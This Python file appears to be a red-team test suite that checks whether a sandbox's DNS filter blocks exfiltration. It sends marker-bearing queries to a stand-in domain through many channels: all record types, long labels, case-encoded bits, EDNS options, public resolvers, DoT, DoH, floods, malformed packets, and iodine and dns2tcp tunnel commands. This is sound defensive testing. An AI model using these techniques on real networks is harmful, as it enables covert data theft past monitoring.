# SPDX-License-Identifier: Apache-2.0
import os
import shutil
import socket
import struct
import subprocess
import time

from common import ALLOWED, DNS_PORT, MARK, Skip, Through, Unsent, direct, https, read_exactly, refused, stream

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35,
         "DS": 43, "DNSKEY": 48, "TLSA": 52, "SVCB": 64, "HTTPS": 65, "ANY": 255, "CAA": 257, "TYPE65534": 65534}
RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def query(name, kind="A", extra=b""):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b"."))
    return struct.pack(">HHHHHH", int.from_bytes(os.urandom(2), "big"), 0x0100, 1, 0, 0, 1 if extra else 0) + labels + b"\0" + \
        struct.pack(">HH", TYPES[kind], 1) + extra


def judge(answer, may=("NXDOMAIN",)):
    """Whether an answer tells of a look-up: data in it, or another code than a refusal's."""
    if len(answer) < 12:
        return "no answer"
    flags, answers = struct.unpack(">H2xH", answer[2:8])
    code = RCODES.get(flags & 15, str(flags & 15))
    if answers and "NOERROR" not in may or code not in may:
        raise Through("answered with %s, %d records" % (code, answers))
    return code


def ask(message, server="127.0.0.1", tcp=False, timeout=5):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.connect((server, 53))
        s.sendall(struct.pack(">H", len(message)) + message if tcp else message)
        return read_exactly(s, struct.unpack(">H", read_exactly(s, 2))[0]) if tcp else s.recv(4096)
    except (OSError, struct.error):
        return b""
    finally:
        s.close()


def name(suffix="evil.redteam.test"):
    return "%s.%s" % (MARK, suffix)


def unlisted():
    return judge(ask(query(name())))


def types():
    return ", ".join(sorted({judge(ask(query(name(), t), tcp=tcp), ("NXDOMAIN", "REFUSED")) for t in TYPES for tcp in (False, True)}))


def long_labels():
    data = (MARK * 20)[:180]
    return judge(ask(query("%s.%s.%s.evil.redteam.test" % (data[:60], data[60:120], data[120:]))))


def over_tcp():
    return judge(ask(query(name(), "TXT"), tcp=True))


def other_resolver():
    if not [l for l in open("/proc/net/route").read().splitlines()[1:] if not l.startswith("lo\t")]:
        for server in ("8.8.8.8", "1.1.1.1"):
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query(name()), (server, 53))
                raise Through("sent without a route")
            except OSError as e:
                why = os.strerror(e.errno)
        raise Unsent(why)
    return ", ".join(sorted({judge(ask(query(name()), server, tcp)) for server in ("8.8.8.8", "1.1.1.1") for tcp in (False, True)}))


def raw_vsock():
    s = stream(DNS_PORT)
    m = query(name(), "TXT")
    s.sendall((struct.pack(">H", len(m)) + m) * 20)
    return ", ".join(sorted({judge(read_exactly(s, struct.unpack(">H", read_exactly(s, 2))[0])) for _ in range(20)}))


def below_listed():
    return judge(ask(query(name(ALLOWED))))


def mixed_case():
    bits = "".join(c.upper() if (MARK.encode()[i % len(MARK)] >> (i % 7)) & 1 else c for i, c in enumerate("covert.evil.redteam.test"))
    return judge(ask(query(bits)))


def edns_option():
    option = struct.pack(">HH", 65001, len(MARK)) + MARK.encode()
    return judge(ask(query(ALLOWED, "A", b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option)), ("NOERROR",))


def malformed():
    m = query(name())
    seen = set()
    for bad in (m[:11], m[:20], m[:12] + b"\xc0\x0c\0\1\0\1", m[:4] + b"\xff\xff" + m[6:], m[:2] + b"\x28\0" + m[4:],
                m.replace(MARK.encode()[:1], b"\0"), os.urandom(200), m + b"\0" * 4000):
        answer = ask(bad, timeout=1)
        if len(answer) >= 12 and struct.unpack(">H", answer[6:8])[0]:
            raise Through("data in the answer to what is no query")
        seen.add(RCODES.get(answer[3] & 15, "?") if len(answer) >= 12 else "no answer")
    return ", ".join(sorted(seen))


def dot():
    return ", ".join(sorted({direct(a, 853) for a in ("1.1.1.1", "8.8.8.8", "9.9.9.9")}))


def doh():
    return ", ".join(sorted({refused(https(h, path="/dns-query?name=" + name())) for h in
                             ("dns.google", "cloudflare-dns.com", "dns.quad9.net")}))


def flood():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.02)
    answers = 0
    for i in range(2000):
        s.sendto(query("%d.%s" % (i, name())), ("127.0.0.1", 53))
        if i % 20 == 19:
            try:
                while True:
                    judge(s.recv(4096), ("NXDOMAIN", "SERVFAIL", "REFUSED"))
                    answers += 1
            except OSError:
                pass
    time.sleep(1.1)  # denials of this second are only counted, those of the next attack must not be among them
    return "%d of 2000 answered, none with data" % answers


def tool(argv):
    if not shutil.which(argv[0]):
        raise Skip("%s is not installed in the image" % argv[0])
    try:
        p = subprocess.run(argv, capture_output=True, timeout=25, check=False)
    except subprocess.TimeoutExpired:
        return "no tunnel in 25 s"
    if p.returncode == 0:
        raise Through("a tunnel")
    return ((p.stdout + p.stderr).decode(errors="replace").strip().splitlines() or ["ended"])[-1][:80]


def iodine():
    return tool(["iodine", "-f", "-r", "-P", "x", "127.0.0.1", "t.%s" % name()])


def dns2tcp():
    return tool(["dns2tcpc", "-z", "t.%s" % name(), "-r", "ssh", "-l", "2222", "127.0.0.1"])
